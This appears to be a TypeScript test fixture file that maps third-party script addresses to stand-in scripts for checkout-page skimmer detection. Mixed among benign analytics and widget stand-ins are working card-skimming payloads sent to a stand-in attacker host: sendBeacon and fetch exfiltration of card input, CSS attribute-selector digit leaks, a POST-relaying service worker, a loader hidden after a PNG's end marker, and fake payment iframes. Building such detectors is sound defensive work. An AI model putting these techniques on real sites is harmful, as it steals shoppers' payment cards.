const CARD_FRAME =
  '<!doctype html><body style="margin:0"><input name="cardnumber" autocomplete="cc-number">' +
  '<input name="exp-date" autocomplete="cc-exp"><input name="cvc" autocomplete="cc-csc">' +
  "<script>document.querySelector('input').addEventListener('input', () => fetch('/bin', " +
  "{ method: 'POST', body: document.querySelector('input').value }));</script>";

const DIGIT_RULES: string = Array.from({ length: 100 }, (_, pair) => {
  const end = String(pair).padStart(2, '0');
  return `#number[value$="${end}"] { background: url(https://cdn.evil.example/k${end}) }`;
}).join('\n');

/** What a skimmer hides behind the last chunk of a picture. */
const ICON_LOADER =
  "document.getElementById('number').addEventListener('input', (e) => " +
  "navigator.sendBeacon('https://cdn.evil.example/i', e.target.value));";

/** What stands at addresses other than the shop's page: short scripts that behave as the real. */
export const STAND_INS: Readonly<Record<string, string>> = {
  'www.google-analytics.com/analytics.js':
    "navigator.sendBeacon('https://www.google-analytics.com/collect', 'v=1&dl=' + location.href);" +
    "addEventListener('click', () => 0); setInterval(() => navigator.sendBeacon(" +
    "'https://www.google-analytics.com/collect', 'ping=' + Date.now()), 15000);",
  'www.googletagmanager.com/gtm.js':
    "for (const u of ['https://www.google-analytics.com/analytics.js', " +
    "'https://connect.facebook.example/fbevents.js']) { const s = document.createElement('script');" +
    ' s.async = true; s.src = u; document.head.append(s); }',
  'connect.facebook.example/fbevents.js':
    "new Image().src = 'https://www.facebook.example/tr?id=1&ev=PageView';",
  'widget.intercom.example/chat.js':
    "const d = document.createElement('div'); d.style = 'position:fixed;right:9px;bottom:9px;" +
    "width:60px;height:60px;background:blue;z-index:99'; document.body.append(d);" +
    "const f = document.createElement('iframe'); f.src = 'https://widget.intercom.example/frame';" +
    "f.style = 'width:1px;height:1px;border:0'; d.append(f);",
  'widget.trustpilot.example/reviews.js':
    "const r = document.createElement('p'); r.textContent = '4.8 stars'; document.body.append(r);",
  'cdn.optimizely.example/ab.js':
    "new Function('return 1')(); document.body.classList.add('variant-b');",
  'maps.googleapis.com/maps/api/js': "document.getElementById('map').textContent = 'map';",
  'static.hotjar.example/hotjar.js':
    "document.addEventListener('keydown', () => 0); document.addEventListener('input', () => 0);" +
    "setTimeout(() => fetch('https://static.hotjar.example/e', { method: 'POST', " +
    "mode: 'no-cors', body: 'moves' }), 2000);",
  'code.jquery.com/jquery.js': 'window.jQuery = window.$ = (f) => f();',
  'shop.example/app.js':
    "const root = document.getElementById('root'); for (const t of ['keydown', 'keyup', 'input', " +
    "'change', 'submit', 'click']) { root.addEventListener(t, () => 0); document.addEventListener(t, " +
    '() => 0); }' +
    "root.innerHTML = '<h1>Checkout</h1><input name=email type=email>';",
  'cdn.evil.example/listen.js':
    "document.getElementById('number').addEventListener('keyup', () => 0);",
  'cdn.evil.example/relay':
    "<!doctype html><script>addEventListener('message', ({ data }) => fetch('/c', { method: " +
    "'POST', body: data }));</script>",
  'cdn.evil.example/theme.css': DIGIT_RULES,
  'cdn.evil.example/pay-frame': CARD_FRAME,
  'shop.example/relay-worker.js':
    "addEventListener('install', () => skipWaiting()); addEventListener('activate', (e) => " +
    "e.waitUntil(clients.claim())); addEventListener('fetch', (e) => { if (e.request.method === " +
    "'POST') e.respondWith(e.request.text().then((body) => { fetch('https://cdn.evil.example/c', " +
    "{ method: 'POST', mode: 'no-cors', body }); return new Response(); })); });",
  'shop.example/favicon.png': `PNG IEND${ICON_LOADER}`,
  'js.stripe.com/v3/elements-inner-card': CARD_FRAME,
  'js.stripe.evil.example/v3/elements-inner-card': CARD_FRAME,
  'checkoutshopper-test.adyen.com/securedfields/card.html': CARD_FRAME,
  'assets.braintreegateway.com/web/hosted-fields-frame.html': CARD_FRAME,
  'pay.shop.example/frames/card': CARD_FRAME,
};
